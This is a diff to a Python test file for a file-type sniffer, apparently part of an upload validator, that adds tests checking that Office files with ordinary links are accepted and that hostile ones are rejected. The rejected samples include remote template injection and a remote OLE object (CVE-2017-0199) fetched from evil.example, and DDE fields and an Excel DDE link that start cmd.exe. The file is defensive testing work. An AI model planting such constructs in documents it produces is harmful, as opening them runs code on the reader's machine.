@@ -87,3 +87,42 @@ def test_an_image_cut_short_or_with_another_file_behind_it_is_not_taken(content:
 ])
 def test_an_office_file_with_hostile_parts_is_not_taken(entries: list[tuple[str, bytes]]) -> None:
     assert sniff(s.zipped(entries)) is None
+
+
+def test_an_office_file_with_a_web_link_and_ordinary_fields_is_taken() -> None:
+    content = s.docx_with(
+        ("word/document.xml", s.document(s.field(" PAGE ") + s.field(" HYPERLINK ", '"hidden" '))),
+        ("word/_rels/document.xml.rels", s.rels(("hyperlink", "http://www.gansu.gov.cn/", "External"))))
+    found = sniff(content)
+    assert found is not None and found.key == "docx"
+    book = b"<externalLink><externalBook/></externalLink>"  # a link to another workbook's cells
+    linked = s.xlsx_with(("xl/externalLinks/externalLink1.xml", book),
+                         overrides=f'<Override PartName="/xl/externalLinks/externalLink1.xml" '
+                                   f'ContentType="{s.EXTERNAL_LINK}"/>')
+    found = sniff(linked)
+    assert found is not None and found.key == "xlsx"
+
+
+@pytest.mark.parametrize("content", [
+    # A template fetched from elsewhere when opened, and run (macros and all): template injection.
+    s.docx_with(("word/_rels/settings.xml.rels",
+                 s.rels(("attachedTemplate", "http://evil.example/t.dotm", "External")))),
+    # A remote OLE object (CVE-2017-0199), its mode spelled with an XML entity.
+    s.docx_with(("word/_rels/document.xml.rels",
+                 s.rels(("oleObject", "http://evil.example/x.hta", "Exte&#114;nal")))),
+    s.docx_with(("word/_rels/webSettings.xml.rels", s.rels(("frame", "http://evil.example/", "External")))),
+    # DDE fields start a program (Word asks once): whole, split over runs, lower case, simple.
+    s.docx_with(("word/document.xml",
+                 s.document(s.field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')))),
+    s.docx_with(("word/document.xml", s.document(s.field(" DD", "EAUTO c:\\\\x.exe", ' "y"')))),
+    s.docx_with(("word/footer1.xml", s.document(s.field(" dde cmd \"/c calc\" ")))),
+    s.docx_with(("word/document.xml", s.document('<w:fldSimple w:instr=" &#68;DE cmd /c calc "/>'))),
+    # A workbook's DDE link: =cmd|' /C calc'!A0 saved by Excel.
+    s.xlsx_with(("xl/externalLinks/externalLink1.xml",
+                 b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'),
+                overrides=f'<Override PartName="/xl/externalLinks/externalLink1.xml" '
+                          f'ContentType="{s.EXTERNAL_LINK}"/>'),
+])
+def test_an_office_file_that_fetches_or_starts_a_program_when_opened_is_not_taken(content: bytes) -> None:
+    """No macro needed: a remote template or object, or a DDE field, runs code all the same."""
+    assert sniff(content) is None
